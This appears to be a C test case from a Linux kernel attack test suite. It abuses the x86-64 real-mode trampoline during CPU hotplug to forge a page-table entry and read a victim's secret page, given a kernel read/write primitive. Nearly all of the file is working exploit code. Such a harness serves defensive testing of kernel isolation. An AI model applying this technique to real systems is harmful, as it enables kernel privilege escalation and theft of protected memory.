// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a CPU that starts reads below 1 MiB, before there are keys, says what CR4 and EFER
 * are to be, and where the kernel goes on. Its stack is ordinary memory. So the CPU comes
 * back from an interrupt that there never was, with registers of the attacker's: memcpy()
 * writes a page-table entry, and it halts.
 */
#include <stddef.h>
#include <stdio.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define HEADER		0x0c	/* trampoline_header of struct real_mode_header */
#define ROOT		0x14	/* trampoline_pgd in there */
#define LOCK		0x18	/* trampoline_lock */
#define STACK_END	0x2010	/* of the trampoline, from its root on */
#define CODE		0x10	/* segments of the trampoline's GDT */
#define DATA		0x18

struct frame {
	uint64_t r15, r14, r13, r12, bp, bx, r11, r10, r9, r8, ax, cx, dx, si, di, orig_ax;
	uint64_t ip, cs, flags, sp, ss;
	uint64_t back;		/* where memcpy() returns to */
	uint64_t value;
};

/* Where a word of the header of the real-mode code leads to. */
static uint64_t real_mode(unsigned int word)
{
	uint32_t phys = 0;

	kread(kread64(ksymbol("real_mode_header")) + word, &phys, sizeof(phys));
	return direct_map_base() + phys;
}

/* By a CPU that starts. */
static int store_by_start(const void *how, uint64_t slot, uint64_t value)
{
	uint64_t header = real_mode(HEADER), start = kread64(header);
	uint64_t stack = real_mode(ROOT) + STACK_END, stack_phys = stack - direct_map_base();
	struct frame frame = {
		.dx = sizeof(value),
		.si = stack_phys + offsetof(struct frame, value),
		.di = slot,
		.ip = ksymbol("memcpy"),
		.cs = CODE,
		.flags = 2,
		.sp = stack_phys + offsetof(struct frame, back),
		.ss = DATA,
		.back = ksymbol("hlt_play_dead"),
		.value = value,
	};
	uint32_t unlocked = 0;

	(void)how;
	/* Nobody gave the lock back. */
	if (kwrite(real_mode(LOCK), &unlocked, sizeof(unlocked)) ||
	    kwrite(stack, &frame, sizeof(frame)) ||
	    store_constant(header, ksymbol("restore_regs_and_return_to_kernel")))
		return -1;
	hotplug_cpu(true);
	return store_constant(header, start);
}

enum outcome start_header(void)
{
	char text[SECRET_SIZE];
	struct window window;
	int err;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!ksymbol("restore_regs_and_return_to_kernel") || !ksymbol("hlt_play_dead"))
		return broken("a symbol is missing");
	hotplug_cpu(false);
	if (!window_open(&window, LEVEL_PTE))
		return broken("no empty page-table entry to forge");
	err = window_map(&window, store_by_start, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	store_by_start(NULL, window.slot, 0);
	hotplug_cpu(true);
	return judge_secret(text, err);
}
#else
enum outcome start_header(void)
{
	return skipped("x86-64 only");
}
#endif
